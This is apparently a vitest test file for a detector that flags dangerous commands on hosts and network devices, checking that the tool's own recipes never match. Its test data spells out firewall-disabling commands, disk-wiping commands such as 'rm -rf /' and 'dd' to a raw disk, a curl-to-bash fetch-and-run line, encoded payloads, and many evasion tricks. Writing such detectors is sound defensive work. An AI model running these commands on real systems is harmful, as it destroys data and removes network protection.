import { describe, expect, it } from 'vitest'
import { dangerOf } from '../../src/platform/dangerous.ts'
import { described } from '../../src/platform/described.ts'
import { builtIn } from '../../src/platform/registry.ts'

describe('a command', () => {
  it.each([
    ['opens', 'pfctl -d'],
    ['opens', 'sudo -n -- /sbin/pfctl -qd'],
    ['opens', 'pfctl -F all'],
    ['opens', 'fw unloadlocal'],
    ['opens', 'true; iptables -F INPUT'],
    ['opens', 'iptables -P FORWARD ACCEPT'],
    ['opens', 'nft flush ruleset'],
    ['opens', 'ufw --force reset'],
    ['opens', 'systemctl stop nftables.service'],
    ['opens', 'Set-NetFirewallProfile -All -Enabled False'],
    ['opens', 'netsh advfirewall set allprofiles state off'],
    ['erases', 'write erase'],
    ['erases', 'request system zeroize'],
    ['erases', 'execute factoryreset'],
    ['erases', 'rm -rf /'],
    ['erases', 'rm -f -r --no-preserve-root /'],
    ['erases', 'dd if=/dev/zero of=/dev/sda'],
    ['overloads', 'debug all'],
    ['opens', '/sbin/pfctl  -d'],
    ['opens', '\tpfctl\t-d'],
    ['opens', 'PFCTL -d'],
    ['opens', 'pfctl -e -d'],
    ['opens', 'pfctl -Fa'],
    ['opens', "sh -c 'pfctl -d'"],
    ['opens', 'sh -c "exec /sbin/pfctl -d"'],
    ['opens', "sudo -u root sh -c 'true && pfctl -d'"],
    ['opens', "'pfctl' '-d'"],
    ['opens', 'pf"ct"l -d'],
    ['opens', 'pf\\ctl -d'],
    ['opens', `pfctl\${IFS}-d`],
    ['opens', 'echo $(pfctl -d)'],
    ['opens', 'echo `pfctl -d`'],
    ['opens', 'LC_ALL=C pfctl -d'],
    ['opens', 'env -i nice -n 5 pfctl -d'],
    ['opens', 'if true; then pfctl -d; fi'],
    ['opens', 'for x in 1; do pfctl -d; done'],
    ['opens', '{ pfctl -d; }'],
    ['opens', 'ssh root@fw-2 pfctl -d'],
    ['opens', 'eval pfctl -d'],
    ['opens', `perl -e 'system("pfctl -d")'`],
    ['opens', '$FWDIR/bin/fw unloadlocal'],
    ['opens', 'bash -lc "fw unloadlocal"'],
    ['opens', 'ip netns exec blue iptables --flush'],
    ['opens', 'ip6tables-legacy -t filter -F'],
    ['opens', 'iptables --policy INPUT ACCEPT'],
    ['opens', "nft 'flush ruleset'"],
    ['opens', 'service iptables stop'],
    ['opens', '/etc/init.d/iptables stop'],
    ['opens', 'cmd /c netsh.exe advfirewall set allprofiles state off'],
    ['erases', 'wr er'],
    ['erases', 'do write erase'],
    ['erases', 'req sys zero'],
    ['erases', 'exec factoryreset'],
    ['erases', 'rm --recursive --force /'],
    ['erases', 'rm -rf //'],
    ['hides', 'x=pfctl; $x -d'],
    ['hides', '$(echo pfctl) -d'],
    ['hides', 'true; `echo pfctl` -d'],
    ['hides', "pfctl $'\\x2dd'"],
    ['hides', 'pfctl -{d,q}'],
    ['hides', '/sbin/pfct? -d'],
    ['hides', 'echo -d | xargs pfctl'],
    ['hides', 'curl http://192.0.2.1/x | bash -s'],
    ['opens', 'true\npfctl -d'],
    ['opens', 'find / -maxdepth 0 -exec pfctl -d \\;'],
    ['opens', "env -S 'pfctl -d'"],
    ['hides', 'echo cGZjdGwgLWQ= | base64 -d | sh'],
    ['hides', 'powershell -enc UABmAGMAdABsAA=='],
    ['hides', `pfctl ${' '.repeat(5000)} -d`],
  ])('that %s is known: %s', (danger, command) => {
    expect(dangerOf(command)?.danger).toBe(danger)
  })

  it.each([
    'pfctl -sr',
    'pfctl -k 192.0.2.1',
    'pfctl -a isolate -f block.conf',
    'iptables -A INPUT -j DROP',
    'iptables -P INPUT DROP',
    'nft list ruleset',
    'nft delete table inet isolate',
    'systemctl stop mirth.service',
    'write memory',
    'rm -rf /var/spool/fax',
    'show debug all-features',
    'echo do not write erasers',
    'pfctl -f /etc/pf-deny.conf',
    "sh -c 'pfctl -sr | grep block'",
    'pfctl -sd',
    'sudo systemctl stop postgresql',
    'show format disk0',
    'write memory',
    'clear configuration session',
    'nft list ruleset | sh -c cat',
    'ip link set dev eth0 down',
    'rm -rf ./spool/*',
    'Set-NetFirewallProfile -All -Enabled True',
    'service iptables status',
    'ls -l /var/log/*.gz',
    'kill $(cat /run/mirth.pid)',
    "awk '{print $1,$2}' /proc/net/dev",
    'Get-Process | ? { $_.Name }',
    'ls | xargs cat',
    'bash /opt/stop.sh',
    'for f in /etc/*.conf; do cat $f; done',
  ])('that is none of these is let through: %s', command => {
    expect(dangerOf(command)).toBeUndefined()
  })

  it('of our own platforms is never one of them, nor a mere clearing of what stands', () => {
    const lines = builtIn.ids
      .flatMap(id => builtIn.get(id) ?? [])
      .flatMap(platform => described(platform).recipes)
      .flatMap(({ variants, undo, save }) => [
        ...variants.flatMap(one => one.lines),
        ...('impossible' in undo ? [] : undo),
        ...('impossible' in save ? [] : save),
      ])
    expect(lines.length).toBeGreaterThan(10)
    expect(lines.filter(line => dangerOf(line) !== undefined)).toEqual([])
    const clearing = /^(?:clear|reset|flush) /
    const cuts = builtIn.ids
      .flatMap(id => builtIn.get(id) ?? [])
      .flatMap(platform => described(platform).recipes)
      .filter(({ cost }) => cost !== undefined)
    for (const { variants } of cuts)
      for (const { lines: sent } of variants) expect(sent.every(line => clearing.test(line))).toBe(false)
  })
})
